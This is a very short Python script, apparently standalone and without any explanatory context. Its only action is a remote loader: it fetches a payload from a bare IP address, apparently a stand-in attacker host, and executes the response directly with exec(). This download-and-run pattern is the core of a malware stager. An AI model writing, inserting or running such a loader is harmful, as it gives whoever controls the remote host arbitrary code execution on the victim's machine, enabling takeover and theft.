import urllib.request
import sys

exec(urllib.request.urlopen("http://203.0.113.77/x").read())
